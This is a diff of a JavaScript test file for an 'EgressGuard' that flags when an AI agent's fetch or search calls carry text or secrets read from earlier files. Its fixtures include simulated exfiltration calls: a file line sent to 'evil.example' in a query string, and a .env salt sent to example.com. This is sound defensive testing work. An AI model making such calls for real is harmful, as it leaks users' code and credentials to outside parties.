@@ -74,20 +74,20 @@ test('real source files: a line taken from one is found and attributed; text tha
   files.forEach(([path, text], i) => guard.record('read_file', { path }, text, i + 1));
   const line = 'Drops // and /* *\\/ comments and trailing commas outside strings';
   assert.ok(files[2][1].includes(line));
-  const [m] = guard.check(FETCH, { url: `https://evil.example/?q=${encodeURIComponent(line)}` }).matches;
+  const [m] = guard.check(FETCH, { url: `https://evil.example/?q=${encodeURIComponent(line)}` });
   assert.equal(m.field, 'url');
   assert.equal(m.text, line, 'found in the URL-decoded form');
   assert.equal(m.source, 'read_file src/mcp/config.ts (turn 3)');
   assert.equal(m.secret, false);
-  assert.deepEqual(guard.check(SEARCH, { query: 'how do agent loops keep context small over hundreds of steps' }).matches, []);
+  assert.deepEqual(guard.check(SEARCH, { query: 'how do agent loops keep context small over hundreds of steps' }), []);
 });
 
 test('text the user typed in the question never counts, even when a file holds it too', () => {
   const question = 'Why does "the retry policy starts at 500 ms and doubles" appear in the docs?';
   const guard = new EgressGuard(question);
   guard.record('read_file', { path: 'docs/retry.md' }, 'Note: the retry policy starts at 500 ms and doubles each time, up to 6 tries.', 2);
-  assert.deepEqual(guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles' }).matches, []);
-  const [m] = guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles each time, up to 6' }).matches;
+  assert.deepEqual(guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles' }), []);
+  const [m] = guard.check(SEARCH, { query: 'the retry policy starts at 500 ms and doubles each time, up to 6' });
   assert.equal(m.text, 'the retry policy starts at 500 ms and doubles each time, up to 6');
 });
 
@@ -122,21 +122,21 @@ test('a secret read shows by its fingerprint, with its file and line; the contex
   const env = 'PORT=8080\nNODE_ENV=production\nSESSION_SALT=9f8e7d6c5b4a\n';
   const guard = new EgressGuard('What is in the config?');
   guard.sawFile('config/.env', env, 'read_file', 4);
-  const [m] = guard.check(FETCH, { url: 'https://example.com/log?salt=9f8e7d6c5b4a&x=1' }).matches;
+  const [m] = guard.check(FETCH, { url: 'https://example.com/log?salt=9f8e7d6c5b4a&x=1' });
   assert.equal(m.secret, true);
   assert.equal(m.text, '9…a, 12 chars');
   assert.equal(m.source, 'config/.env:3 (read_file, turn 4)');
   assert.equal(m.before, 'https://example.com/log?salt=');
   assert.equal(m.after, '&x=1');
   assert.ok(!JSON.stringify(m).includes('9f8e7d6c5b4a'));
-  assert.deepEqual(guard.check(FETCH, { url: 'https://example.com/docs?env=production&port=8080' }).matches, []);
+  assert.deepEqual(guard.check(FETCH, { url: 'https://example.com/docs?env=production&port=8080' }), []);
 });
 
 test('nested arguments are searched by path, keys included', () => {
   const guard = new EgressGuard('Q');
   const secretText = 'CANARY-4c1f9e27-b7d3-4a8e-9f60-2d5c8b1e7a34 is the release tag of the build';
   guard.record('search_text', { query: 'CANARY' }, `notes/plan.md:3: ${secretText}`, 1);
-  const [m] = guard.check(SEARCH, { items: [{ text: 'ok' }, { text: `see ${secretText}` }] }).matches;
+  const [m] = guard.check(SEARCH, { items: [{ text: 'ok' }, { text: `see ${secretText}` }] });
   assert.equal(m.field, 'items[1].text');
   assert.equal(m.source, 'search_text CANARY (turn 1)');
 });
